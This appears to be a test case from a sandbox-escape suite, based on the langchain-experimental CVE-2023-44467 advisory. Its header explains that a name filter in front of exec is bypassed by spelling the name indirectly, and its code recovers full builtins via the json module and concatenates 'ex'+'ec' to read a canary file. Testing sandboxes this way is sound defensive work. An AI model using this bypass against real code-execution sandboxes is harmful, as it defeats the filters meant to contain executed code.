# id: langchain-exec-filter
# family: historic-sandboxes
# kind: escape
# invariant: D, E
# origin: langchain-experimental advisory CVE-2023-44467
# technique: a filter in front of exec refuses the names it knows, and an indirect form spells them otherwise
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import json

full = vars(json)["__builtins__"]
full["ex" + "ec"]("print(open('canary.txt').read())", {"__builtins__": full})
